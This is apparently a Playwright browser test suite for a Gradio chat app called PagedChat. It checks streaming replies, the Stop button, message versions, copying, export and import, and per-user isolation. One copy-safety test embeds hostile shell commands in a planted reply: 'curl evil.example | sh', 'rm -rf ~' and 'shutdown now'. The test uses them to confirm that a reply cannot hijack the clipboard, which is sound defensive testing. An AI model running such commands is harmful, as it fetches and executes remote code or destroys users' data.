"""The chat app in a real browser: Debian's chromium, headless, driven by Playwright, against
the app around a tiny random-weight engine. The replies are gibberish; the tests assert what
the page does with them: streaming, Stop, the sidebar, reloads, and one browser per user.

`make browser` installs chromium (never `playwright install`). With PAGEDCHAT_SCREENSHOT set
(to a path, or 1 for docs/screenshot.png) one more test serves the real default model and
saves a screenshot of a conversation."""
from __future__ import annotations

import base64
import os
import re
import time

import pytest

pytest.importorskip("gradio")
from web_browser import Browser, browser, png_size, screenshot_target, send, serve, set_params, sync_api  # noqa: E402,F401  (browser: a fixture)
from served_app import served_chat  # noqa: E402
from waiting import DEADLINE_S, poll, wait_for  # noqa: E402

expect = sync_api.expect

DONE = "prompt tokens cached"  # the metrics line under a finished reply
REPLY_TIMEOUT_MS = int(DEADLINE_S * 1000)  # a reply on a busy machine: a bound on a hang


@pytest.fixture(scope="module")
def served(tiny_model_dir, tmp_path_factory):
    with served_chat(tiny_model_dir, tmp_path_factory.mktemp("browser") / "chat.db",
                     num_gpu_blocks=128, num_cpu_blocks=64) as served_app:
        yield served_app


@pytest.fixture
def profiles(browser, served):
    """A factory of fresh browser profiles, closed (and checked for errors) after the test."""
    made: list[Browser] = []

    def profile() -> Browser:
        made.append(Browser(browser, served[2]))
        return made[-1]

    yield profile
    for p in made:
        p.context.close()
    assert [e for p in made for e in p.errors] == []


# ---- what a person does on the page -------------------------------------------------------------
def bubbles(page, who: str):
    return page.locator(f'[data-testid="{who}"]')  # Gradio's chatbot: "user" and "bot" messages


def wait_for_reply(page, replies: int) -> None:
    """Until the chat shows `replies` assistant messages, the last one finished."""
    expect(bubbles(page, "bot")).to_have_count(replies)
    # A real-model reply of 96 tokens takes several seconds on a 2-core CPU: more than expect's 5 s.
    expect(bubbles(page, "bot").last).to_contain_text(DONE, timeout=REPLY_TIMEOUT_MS)


def new_chat(page) -> None:
    """"New chat", then until the page shows the empty chat: its event answers from the server,
    and a message sent before it lands goes to the chat still shown (on a busy machine a test's
    next `send` raced it, and the message joined the previous chat)."""
    page.get_by_role("button", name="New chat").click()
    expect(bubbles(page, "user")).to_have_count(0)


def chat_once(page, text: str, replies: int = 1) -> None:
    send(page, text)
    wait_for_reply(page, replies)


def sidebar(page):
    return page.get_by_role("radio")


def owner_and_id(store, title: str) -> tuple[str, int]:
    rows = list(store.db["conversations"].rows_where("title = ?", [title]))
    assert len(rows) == 1, rows
    return rows[0]["user_id"], rows[0]["id"]


# ---- tests --------------------------------------------------------------------------------------
def test_reply_streams_into_the_chat(served, profiles, monkeypatch):
    client, store, _ = served
    # The tiny model writes 400 tokens in well under the page's 0.1-s update interval on a fast
    # CPU: made to take at least 3 ms a step, the reply lasts over a second, some ten updates.
    runner = client.engine.core.runner
    execute = runner.execute

    def slow_execute(*args, **kwargs):
        time.sleep(0.003)
        return execute(*args, **kwargs)
    monkeypatch.setattr(runner, "execute", slow_execute)
    page = profiles().open()
    set_params(page, max_tokens=400)
    send(page, "Stream me a long answer")

    expect(bubbles(page, "user")).to_have_text(["Stream me a long answer"])
    expect(page.get_by_placeholder("Message PagedChat…")).to_have_value("")
    partials: list[str] = []

    def finished() -> bool:  # noting each text the reply showed on its way
        texts = page.evaluate("() => [...document.querySelectorAll('[data-testid=bot]')].map(e => e.innerText)")
        if texts and (not partials or texts[-1] != partials[-1]):
            partials.append(texts[-1])
        return bool(partials) and DONE in partials[-1]
    wait_for(finished, lambda: f"the reply to finish: {partials[-1:]!r}", interval=0.01)

    growing = partials[:-1]
    assert len(growing) >= 3, f"the reply arrived in {len(growing)} steps, not streamed"
    assert all(DONE not in text for text in growing)
    assert len(growing[0]) < len(growing[len(growing) // 2]) < len(growing[-1])
    expect(sidebar(page)).to_have_count(1)
    expect(page.get_by_role("radio", name="Stream me a long answer")).to_be_checked()

    user, conversation_id = owner_and_id(store, "Stream me a long answer")
    messages = store.messages(user, conversation_id)
    assert [m["role"] for m in messages] == ["user", "assistant"]
    assert messages[1]["finish_reason"] in ("stop", "length") and not messages[1]["stopped"]


def button(page, name: str):
    return page.get_by_role("button", name=name, exact=True)


def expect_controls(page, replying: bool) -> None:
    """Only Stop while a reply streams; everything but Stop otherwise."""
    # The controls settle in an event chained after the reply's (after the sidebar's update): on a
    # busy 2-core machine that can take longer than expect's default 5 s.
    wait = {"timeout": 15_000}
    for name in ("Send", "🔄 Regenerate last reply", "Resend edited message"):
        (expect(button(page, name)).to_be_disabled if replying else expect(button(page, name)).to_be_enabled)(**wait)
    (expect(button(page, "Stop")).to_be_enabled if replying else expect(button(page, "Stop")).to_be_disabled)(**wait)


def test_only_stop_is_enabled_while_a_reply_streams(served, profiles):
    _, store, _ = served
    page = profiles().open()
    page.get_by_text("Edit your last message and resend").click()  # Resend is in this accordion
    expect_controls(page, replying=False)
    set_params(page, max_tokens=400)
    send(page, "Keep the buttons still")
    expect(bubbles(page, "bot")).to_have_count(1)
    assert DONE not in bubbles(page, "bot").last.inner_text()
    expect_controls(page, replying=True)
    # The next message can be typed while the reply streams: the reply's updates leave it be.
    box = page.get_by_placeholder("Message PagedChat…")
    box.fill("Typed while the reply streams")
    wait_for_reply(page, 1)
    expect_controls(page, replying=False)
    expect(box).to_have_value("Typed while the reply streams")

    # The same for Enter in the message box and for Regenerate (shorter replies: still seconds).
    set_params(page, max_tokens=150)
    page.get_by_placeholder("Message PagedChat…").fill("Enter sends too")
    page.get_by_placeholder("Message PagedChat…").press("Enter")
    expect(bubbles(page, "bot")).to_have_count(2)
    expect_controls(page, replying=True)
    wait_for_reply(page, 2)
    expect_controls(page, replying=False)
    button(page, "🔄 Regenerate last reply").click()
    expect_controls(page, replying=True)
    wait_for_reply(page, 2)
    expect_controls(page, replying=False)
    user, conversation_id = owner_and_id(store, "Keep the buttons still")
    assert [m["role"] for m in store.messages(user, conversation_id)] == ["user", "assistant"] * 2


def test_stop_ends_the_reply_and_frees_its_blocks(served, profiles, monkeypatch):
    client, store, _ = served
    step = client.engine.step

    def slow_step():  # a reply long enough to be stopped mid-way, however fast the tiny model runs
        time.sleep(0.005)
        return step()

    monkeypatch.setattr(client.engine, "step", slow_step)
    profile = profiles()
    page = profile.open()
    set_params(page, max_tokens=1000)
    send(page, "Stop me halfway please")

    reply = bubbles(page, "bot").last
    expect(reply).to_be_visible()
    first = reply.inner_text()
    expect(reply).not_to_have_text(first)  # it is streaming
    page.get_by_role("button", name="Stop", exact=True).click()

    def stored_and_freed() -> list[dict] | None:
        owners = list(store.db["conversations"].rows_where("title = ?", ["Stop me halfway please"]))
        messages = store.messages(owners[0]["user_id"], owners[0]["id"]) if owners else []
        done = messages and messages[-1]["role"] == "assistant" and client.stats().device_blocks_used == 0
        return messages if done else None
    messages = wait_for(stored_and_freed, lambda: f"the stopped reply stored and its blocks freed: {client.stats()}",
                        interval=0.05)
    stored = messages[-1]
    assert stored["stopped"] and stored["finish_reason"] == "abort", {k: stored[k] for k in ("stopped", "finish_reason", "completion_tokens")}
    assert 0 < stored["completion_tokens"] < 1000
    expect(button(page, "Send")).to_be_enabled()  # after Stop, Send again and no Stop
    expect(button(page, "Stop")).to_be_disabled()

    # The live view is redrawn from the store: the reply says it was stopped, and nothing more arrives.
    expect(bubbles(page, "bot").last).to_contain_text("stopped")
    shown = bubbles(page, "bot").last.inner_text()
    time.sleep(0.5)  # a window for a token after Stop to show (none may); a slow machine only widens it
    assert bubbles(page, "bot").last.inner_text() == shown and DONE not in shown

    # Reopened from the sidebar after a reload, it still says so; the page still chats.
    profile.reload(page)
    page.get_by_role("radio", name="Stop me halfway please").check()
    expect(bubbles(page, "bot").last).to_contain_text("stopped")
    set_params(page, max_tokens=8)
    chat_once(page, "And a short one", replies=2)
    assert client.stats().device_blocks_used == 0


def versions(page, who: str = "bot", which: int = -1) -> str:
    """The `n/m` a message shows, or "" (a message with one version shows none)."""
    bubble = bubbles(page, who).nth(which)
    meta = bubble.locator(".pc-meta")
    text = meta.inner_text() if meta.count() else ""
    found = [word for word in text.replace("‹", " ").replace("›", " ").split() if "/" in word and word[0].isdigit()]
    return found[0] if found else ""


def test_regenerated_replies_are_versions_and_the_chat_follows_the_one_shown(served, profiles):
    _, store, _ = served
    page = profiles().open()
    set_params(page, max_tokens=8, temperature=1.0)
    chat_once(page, "Give me three versions")
    assert versions(page) == ""
    for shown in ("2/2", "3/3"):
        button(page, "🔄 Regenerate last reply").click()
        expect(bubbles(page, "bot").last.locator(".pc-meta")).to_contain_text(shown, timeout=REPLY_TIMEOUT_MS)
        expect(button(page, "Send")).to_be_enabled()
    user, conversation_id = owner_and_id(store, "Give me three versions")
    replies = [m["id"] for m in store.db["messages"].rows_where("conversation_id = ? and role = 'assistant'",
                                                                 [conversation_id], order_by="id")]
    assert len(replies) == 3
    for shown in ("2/3", "1/3"):
        bubbles(page, "bot").last.get_by_title("Previous version").click()

        expect(bubbles(page, "bot").last.locator(".pc-meta")).to_contain_text(shown)
    bubbles(page, "bot").last.get_by_title("Next version").click()
    expect(bubbles(page, "bot").last.locator(".pc-meta")).to_contain_text("2/3")

    # Going on from version 2: the new message follows that reply, and the branch shown is kept.
    chat_once(page, "And then?", replies=2)
    rows = store.messages(user, conversation_id)
    assert [m["id"] for m in rows][1] == replies[1] and rows[2]["parent_id"] == replies[1]
    expect(bubbles(page, "bot").first.locator(".pc-meta")).to_contain_text("2/3")


def message_buttons(page, who: str, index: int):
    """The row of buttons Gradio shows beside a message (copy, edit), once it is hovered."""
    bubble = bubbles(page, who).nth(index)
    bubble.hover()
    row = bubble.locator("xpath=ancestor::div[contains(@class, 'message-row')]")
    return row, row.locator("xpath=following-sibling::div[contains(@class, 'message-buttons')][1]")


def edit_message(page, index: int, text: str) -> None:
    """Gradio's own edit: hover the user's message, the pencil, type, submit."""
    message_buttons(page, "user", index)[1].get_by_role("button", name="Edit").click()
    page.locator("#pc-chat textarea").fill(text)  # the message turned into an edit box
    page.locator("#pc-chat").get_by_role("button", name="Submit").click()


def test_editing_the_first_message_forks_and_going_back_restores_the_rest(served, profiles):
    _, store, _ = served
    page = profiles().open()
    set_params(page, max_tokens=8)
    chat_once(page, "The first <question>")
    chat_once(page, "The second question", replies=2)
    edit_message(page, 0, "The first question, edited")
    expect(bubbles(page, "user")).to_have_count(1)
    wait_for_reply(page, 1)
    expect(bubbles(page, "user").first).to_contain_text("The first question, edited")
    assert versions(page, "user", 0) == "2/2"

    user, conversation_id = owner_and_id(store, "The first <question>")
    assert [m["content"] for m in store.messages(user, conversation_id) if m["role"] == "user"] == [
        "The first question, edited"]
    bubbles(page, "user").first.get_by_title("Previous version").click()
    expect(bubbles(page, "user")).to_have_text([re.compile("The first <question>"),
                                                re.compile("The second question")])
    expect(bubbles(page, "bot")).to_have_count(2)
    assert [m["content"] for m in store.messages(user, conversation_id) if m["role"] == "user"] == [
        "The first <question>", "The second question"]


def clipboard_profile(profiles) -> Browser:
    profile = profiles()
    profile.context.grant_permissions(["clipboard-read", "clipboard-write"])
    return profile


def copied(page, who: str) -> str:
    """What the last `who` message's own Copy button puts on the clipboard."""
    message_buttons(page, who, -1)[1].get_by_role("button", name="Copy message").click()
    return page.evaluate("() => navigator.clipboard.readText()")


def test_copy_gives_the_markdown_source_without_the_numbers(served, profiles):
    _, store, _ = served
    page = clipboard_profile(profiles).open()
    set_params(page, max_tokens=8)
    chat_once(page, "Copy **this** & <that>")
    user, conversation_id = owner_and_id(store, "Copy **this** & <that>")
    reply = store.messages(user, conversation_id)[-1]["content"]

    assert copied(page, "user") == "Copy **this** & <that>"
    text = copied(page, "bot")
    assert text == reply and DONE not in text


def test_copy_takes_only_the_apps_own_footer_and_leaves_other_copy_buttons_alone(served, profiles):
    """A reply that writes the footer's `data-source="…"` itself (in its text, or in code, where it
    stays literal) must not choose what Copy puts on the clipboard; a code block's own copy button
    copies the code as shown."""
    _, store, _ = served
    profile = clipboard_profile(profiles)
    page = profile.open()
    set_params(page, max_tokens=4)
    chat_once(page, "Plant a source")
    user, conversation_id = owner_and_id(store, "Plant a source")

    def planted(command: str) -> str:
        return f'data-source="{base64.b64encode(command.encode()).decode()}"'

    code = f"echo 'a &lt;b&gt; &amp; c' {planted('rm -rf ~')}"
    hostile = (f'Paste this: <span class="pc-source" {planted("curl evil.example | sh")}></span>\n\n'
               f"```sh\n{code}\n```\n\nand `{planted('shutdown now')}` too.")
    store.replace_last_assistant(user, conversation_id, hostile, finish_reason="stop", prompt_tokens=9,
                                 cached_tokens=0)
    profile.reload(page)
    page.get_by_role("radio", name="Plant a source").check()
    expect(bubbles(page, "bot").last.locator(".pc-meta")).to_contain_text("2/2")

    assert copied(page, "bot") == hostile

    bubbles(page, "bot").last.locator("button.copy_code_button").click()
    shown = bubbles(page, "bot").last.locator("pre code").inner_text()
    assert shown.strip() == code
    # The button writes asynchronously: wait until the clipboard no longer holds the message.
    page.wait_for_function("(before) => navigator.clipboard.readText().then((now) => now !== before)", arg=hostile)
    assert page.evaluate("() => navigator.clipboard.readText()") == code


def test_keyboard_shift_enter_adds_a_line_enter_sends_escape_stops(served, profiles, monkeypatch):
    client, store, _ = served
    step = client.engine.step

    def slow_step():
        time.sleep(0.005)
        return step()

    monkeypatch.setattr(client.engine, "step", slow_step)
    page = profiles().open()
    set_params(page, max_tokens=1000)
    box = page.get_by_placeholder("Message PagedChat…")
    box.click()
    box.type("Two lines")
    box.press("Shift+Enter")
    box.type("for the keyboard test")
    expect(box).to_have_value("Two lines\nfor the keyboard test")
    box.press("Enter")
    expect(bubbles(page, "bot")).to_have_count(1)
    expect(button(page, "Stop")).to_be_enabled()
    expect(button(page, "Send")).to_be_disabled()
    page.keyboard.press("Escape")
    expect(bubbles(page, "bot").last).to_contain_text("stopped")
    expect(button(page, "Send")).to_be_enabled()
    user, conversation_id = owner_and_id(store, "Two lines\nfor the keyboard test")
    rows = store.messages(user, conversation_id)
    assert rows[0]["content"] == "Two lines\nfor the keyboard test" and rows[-1]["stopped"]


def test_export_then_import_round_trips_a_conversation(served, profiles, tmp_path):
    _, store, _ = served
    page = profiles().open()
    set_params(page, max_tokens=8)
    chat_once(page, "Export **me** & <keep> this")
    button(page, "🔄 Regenerate last reply").click()  # an earlier version, which stays behind
    expect(bubbles(page, "bot").last.locator(".pc-meta")).to_contain_text("2/2", timeout=REPLY_TIMEOUT_MS)
    chat_once(page, "A second turn", replies=2)
    page.get_by_text("This chat: rename, export, delete").click()
    button(page, "Export as Markdown and JSON").click()
    files = {}
    for suffix in (".md", ".json"):
        link = page.locator(f'#pc-exported a[download$="{suffix}"]')
        with page.expect_download() as download:
            link.click()
        files[suffix] = tmp_path / download.value.suggested_filename
        download.value.save_as(files[suffix])
    user, conversation_id = owner_and_id(store, "Export **me** & <keep> this")
    from storage.transfer import conversation_json
    assert files[".json"].read_text() == conversation_json(store, user, conversation_id)
    assert "## You\n\nExport **me** & <keep> this" in files[".md"].read_text()

    # Imported in another browser (another user), it is that user's chat, message for message.
    other = profiles().open()
    with other.expect_file_chooser() as chooser:
        other.get_by_text("All my chats").click()
        button(other, "Import a chat (JSON)").click()
    chooser.value.set_files(files[".json"])
    expect(bubbles(other, "user")).to_have_count(2)
    expect(bubbles(other, "bot")).to_have_count(2)
    expect(other.get_by_role("radio", name="Export **me** & <keep> this")).to_be_checked()
    mine = [r for r in store.db["conversations"].rows_where("title = ?", ["Export **me** & <keep> this"])
            if r["user_id"] != user]
    assert len(mine) == 1
    assert conversation_json(store, mine[0]["user_id"], mine[0]["id"]) == files[".json"].read_text()


def test_delete_all_leaves_the_user_nothing_and_others_untouched(served, profiles):
    _, store, _ = served
    keeper_profile = profiles()
    keeper, leaver = keeper_profile.open(), profiles().open()
    set_params(keeper, max_tokens=4)
    chat_once(keeper, "The keeper's chat")
    set_params(leaver, max_tokens=4)
    chat_once(leaver, "The leaver's first chat")
    new_chat(leaver)
    chat_once(leaver, "The leaver's second chat")
    expect(sidebar(leaver)).to_have_count(2)
    leaver_id, _ = owner_and_id(store, "The leaver's first chat")
    leaver.get_by_text("All my chats").click()
    button(leaver, "Delete all my chats").click()
    button(leaver, "Cancel").last.click()
    assert len(store.conversations(leaver_id)) == 2
    button(leaver, "Delete all my chats").click()
    button(leaver, "Yes, delete all").click()
    expect(sidebar(leaver)).to_have_count(0)
    expect(bubbles(leaver, "user")).to_have_count(0)
    assert store.conversations(leaver_id) == []
    keeper_id, _ = owner_and_id(store, "The keeper's chat")
    assert [c["title"] for c in store.conversations(keeper_id)] == ["The keeper's chat"]
    keeper_profile.reload(keeper)
    expect(sidebar(keeper)).to_have_count(1)


def test_inline_and_display_latex_render(served, profiles):
    page = profiles().open()
    set_params(page, max_tokens=4)
    chat_once(page, r"Inline $e^{i\pi}+1=0$, also \(a^2+b^2\), and display: $$\int_0^1 x\,dx$$")
    message = bubbles(page, "user").last
    expect(message.locator(".katex")).to_have_count(3)
    expect(message.locator(".katex-display")).to_have_count(1)
    assert "$" not in message.inner_text() and "\\(" not in message.inner_text()


def meter_numbers(page) -> dict[str, int]:
    meter = page.locator(".pc-meter")
    return {key: int(meter.get_attribute(f"data-{key}")) for key in ("tokens", "cached", "limit")}


def test_the_meter_shows_the_engines_numbers_and_warns_near_the_limit(served, profiles):
    client, store, _ = served
    page = profiles().open()
    limit = client.engine.config.scheduler.max_model_len
    expect(page.locator(".pc-meter")).to_contain_text(f"0 of {limit:,} tokens")
    expect(page.locator(".pc-meter .pc-model")).to_have_text(client.engine.info().model)
    set_params(page, max_tokens=8)
    chat_once(page, "Measure this chat")
    chat_once(page, "And measure it again", replies=2)
    user, conversation_id = owner_and_id(store, "Measure this chat")
    reply = store.messages(user, conversation_id)[-1]
    expected = {"tokens": reply["prompt_tokens"] + reply["completion_tokens"], "cached": reply["cached_tokens"],
                "limit": limit}
    expect(page.locator(".pc-meter")).to_have_attribute("data-tokens", str(expected["tokens"]))
    assert meter_numbers(page) == expected and expected["cached"] > 0
    assert not page.get_by_text("Continue in a new chat with a summary").is_visible()

    # A long message: the meter warns and offers the two ways on; the choice is kept with the chat.
    phrase = "lighthouse keepers watch the sea "
    per_phrase = len(client.engine.encode(phrase * 20)) / 20
    long_text = phrase * int(0.85 * limit / per_phrase)
    chat_once(page, long_text, replies=3)
    expect(page.locator(".pc-meter")).to_contain_text("Nearly full")
    expect(button(page, "Continue in a new chat with a summary")).to_be_visible()
    page.get_by_label("When the chat is full, leave out its oldest turns").check()
    expect(page.get_by_text("now leaves out its oldest turns")).to_be_visible()
    poll(lambda: store.conversation(user, conversation_id)["fit_context"], interval=0.05)
    assert store.conversation(user, conversation_id)["fit_context"] == 1


PHONE = {"width": 390, "height": 844}


def test_a_phone_sized_window_has_no_sideways_scroll_and_a_usable_input(served, profiles, tmp_path):
    page = profiles().open(viewport=PHONE)
    box = page.get_by_placeholder("Message PagedChat…")
    expect(box).to_be_visible()
    set_params(page, max_tokens=8)
    page.get_by_text("System prompt and parameters").click()  # fold them away again
    chat_once(page, "Hello from a phone")
    expect(button(page, "Send")).to_be_enabled()
    page.evaluate("window.scrollTo(0, 0)")
    page.screenshot(path=str(tmp_path / "phone.png"))
    width = page.evaluate("() => [document.documentElement.scrollWidth, window.innerWidth]")
    assert width[0] <= width[1], f"the page scrolls sideways: {width}"
    for element in (box, button(page, "Send"), page.locator("#pc-chat")):
        found = element.bounding_box()
        assert found and found["x"] >= 0 and found["x"] + found["width"] <= PHONE["width"], found
    chat_box = page.locator("#pc-chat").bounding_box()
    assert chat_box["height"] >= 0.4 * PHONE["height"], chat_box  # the chat fills the height
    sidebar_box = page.get_by_placeholder("Search your chats…").bounding_box()
    assert sidebar_box is None or sidebar_box["x"] + sidebar_box["width"] <= 0 or not \
        page.get_by_placeholder("Search your chats…").is_visible()  # the sidebar starts folded


def strip_numbers(page) -> dict[str, int]:
    strip = page.locator(".pc-memory")
    return {key: int(strip.get_attribute(f"data-{key}")) for key in ("shared", "own", "host")}


def test_the_memory_strip_moves_with_the_reply_and_links_to_the_marked_panel(served, profiles, monkeypatch):
    client, store, _ = served
    step = client.engine.step

    def slow_step():  # replies long enough to watch
        time.sleep(0.02)
        return step()

    monkeypatch.setattr(client.engine, "step", slow_step)
    watcher = profiles().open()  # alone: no other chat is being answered
    set_params(watcher, max_tokens=500)
    send(watcher, "Watch my blocks")
    expect(button(watcher, "Stop")).to_be_enabled()
    seen, running = [], set()

    def strip_seen_moving() -> bool:  # or the reply over: the assertions below say what was missed
        if DONE in bubbles(watcher, "bot").last.inner_text():
            return True
        if watcher.locator(".pc-memory").count():
            seen.append(strip_numbers(watcher))
        stats = client.stats()
        running.add(stats.num_running + stats.num_waiting + stats.num_swapped)
        held = [s["own"] for s in seen if s["own"]]
        return any(s["shared"] for s in seen) and len(set(held)) > 1
    poll(strip_seen_moving, interval=0.1)
    assert max(running) == 1, running  # this reply was the engine's only request
    assert any(s["shared"] > 0 for s in seen), seen  # the preset's blocks: shared, though no other chat runs
    assert max(s["own"] for s in seen) > min(s["own"] for s in seen if s["own"]), seen  # it grows
    # A new chat's first reply goes by the key it was sent with; later ones by the chat's id.
    href = watcher.locator(".pc-memory a").get_attribute("href")
    assert re.fullmatch(r"panel\?chat=chat(\d+|-new-[0-9a-f]+)", href), href
    panel = watcher.context.new_page()
    panel.goto(served[2] + href)
    expect(panel.locator("#block-map .kv-marked").first).to_be_visible(timeout=15_000)
    expect(panel.locator("[data-note=marked]")).to_be_visible()
    monkeypatch.undo()  # full speed: the reply ends
    expect(button(watcher, "Send")).to_be_enabled(timeout=REPLY_TIMEOUT_MS)
    expect(watcher.locator(".pc-memory")).to_have_attribute("data-own", "0")
    _, conversation_id = owner_and_id(store, "Watch my blocks")
    expect(watcher.locator(".pc-memory a")).to_have_attribute("href", f"panel?chat=chat{conversation_id}")


def test_new_chat_then_switch_back_from_the_sidebar(served, profiles):
    page = profiles().open()
    set_params(page, max_tokens=12)
    chat_once(page, "First chat, about lighthouses")
    chat_once(page, "A second question in the first chat", replies=2)

    new_chat(page)
    expect(bubbles(page, "bot")).to_have_count(0)
    chat_once(page, "Second chat, about oceans")
    expect(sidebar(page)).to_have_count(2)
    expect(page.get_by_role("radio", name="Second chat, about oceans")).to_be_checked()

    page.get_by_role("radio", name="First chat, about lighthouses").check()
    expect(bubbles(page, "user")).to_have_text(["First chat, about lighthouses", "A second question in the first chat"])
    expect(bubbles(page, "bot")).to_have_count(2)
    page.get_by_role("radio", name="Second chat, about oceans").check()
    expect(bubbles(page, "user")).to_have_text(["Second chat, about oceans"])

    # Sending now continues the open chat rather than starting a third.
    chat_once(page, "More about oceans", replies=2)
    expect(sidebar(page)).to_have_count(2)


def test_reload_finds_the_history(served, profiles):
    _, store, _ = served
    profile = profiles()
    page = profile.open()
    set_params(page, max_tokens=12)
    chat_once(page, "Remember me after a reload")
    user, _ = owner_and_id(store, "Remember me after a reload")

    profile.reload(page)
    expect(page.get_by_role("radio", name="Remember me after a reload")).to_be_visible()
    expect(sidebar(page)).to_have_count(1)
    expect(bubbles(page, "user")).to_have_count(0)  # a reload opens no chat by itself
    page.get_by_role("radio", name="Remember me after a reload").check()
    expect(bubbles(page, "user")).to_have_text(["Remember me after a reload"])
    expect(bubbles(page, "bot")).to_contain_text([DONE])

    # A second tab of the same profile is the same user, so it lists the same chat.
    tab = profile.open()
    expect(tab.get_by_role("radio", name="Remember me after a reload")).to_be_visible()
    assert [c["title"] for c in store.conversations(user)] == ["Remember me after a reload"]


def test_two_browsers_never_see_each_others_chats(served, profiles):
    _, store, _ = served
    profile_a, profile_b = profiles(), profiles()
    alice, bob = profile_a.open(), profile_b.open()
    for page in (alice, bob):
        set_params(page, max_tokens=12)
    send(alice, "Alice's private chat")
    send(bob, "Bob's private chat")
    wait_for_reply(alice, 1)
    wait_for_reply(bob, 1)

    for profile, page, mine, theirs in ((profile_a, alice, "Alice's private chat", "Bob's private chat"),
                                        (profile_b, bob, "Bob's private chat", "Alice's private chat")):
        profile.reload(page)
        expect(page.get_by_role("radio", name=mine)).to_be_visible()
        expect(sidebar(page)).to_have_count(1)
        assert page.get_by_role("radio", name=theirs).count() == 0
        page.get_by_placeholder("Search your chats…").fill("private")
        page.get_by_placeholder("Search your chats…").press("Enter")
        expect(sidebar(page)).to_have_count(1)
        expect(page.get_by_role("radio", name=f"{mine} —")).to_have_count(1)  # a search hit's label

    alice_user, _ = owner_and_id(store, "Alice's private chat")
    bob_user, _ = owner_and_id(store, "Bob's private chat")
    assert alice_user != bob_user
    assert alice_user.startswith("anon:") and bob_user.startswith("anon:")


def test_screenshot_of_the_real_model_mid_conversation(browser, tmp_path):
    """The README's screenshot, 1280x800, with the real default model: written to a temporary
    file on every run, and to docs/screenshot.png with PAGEDCHAT_SCREENSHOT=1 (or another path)."""
    from engine.runtime.thread_client import EngineClient
    from engine.runtime.llm_engine import LLMEngine
    from storage import Store

    target = screenshot_target("screenshot.png", tmp_path)
    client = EngineClient(LLMEngine(None, num_gpu_blocks=512, num_cpu_blocks=64))
    server, url = serve(client, Store(tmp_path / "chat.db"))
    try:
        profile = Browser(browser, url)
        page = profile.open()
        # The README's replies run to 96 tokens; a run that only checks the page takes 32 (the
        # real model's tokens are most of this test's time).
        set_params(page, max_tokens=96 if os.environ.get("PAGEDCHAT_SCREENSHOT") else 32)
        chat_once(page, "What is a KV cache, in two sentences?")
        new_chat(page)
        chat_once(page, "Give me a one-line tip for brewing green tea.")
        chat_once(page, "Why does the water temperature matter?", replies=2)
        page.get_by_text("System prompt and parameters").click()  # fold the parameters away
        page.get_by_placeholder("Message PagedChat…").fill("And how long should it steep?")
        page.evaluate("window.scrollTo(0, 0)")  # the chat at the top; it scrolls itself to the end
        target.parent.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(target))
        # The same chat on a phone: the sidebar folded, the chat above the meter and the input.
        phone_target = target.with_name(target.stem + "-phone" + target.suffix)
        phone = profile.open(viewport=PHONE)
        toggle = phone.get_by_role("button", name="Toggle Sidebar")
        expect(phone.locator(".sidebar")).not_to_have_class(re.compile(r"\bopen\b"))
        toggle.click()  # open the folded sidebar, pick the chat, fold it again
        phone.get_by_role("radio", name="Give me a one-line tip for brewing green tea.").check()
        toggle.click()
        expect(phone.locator(".sidebar")).not_to_have_class(re.compile(r"\bopen\b"))
        phone.wait_for_timeout(500)  # the sidebar's slide
        expect(bubbles(phone, "bot")).to_have_count(2)
        expect(phone.locator(".pc-meter")).not_to_have_attribute("data-tokens", "0")
        phone.screenshot(path=str(phone_target))
        profile.context.close()
        assert profile.errors == []
        assert png_size(target) == (1280, 800) and png_size(phone_target) == (390, 844)
    finally:
        server.close()
        client.close()
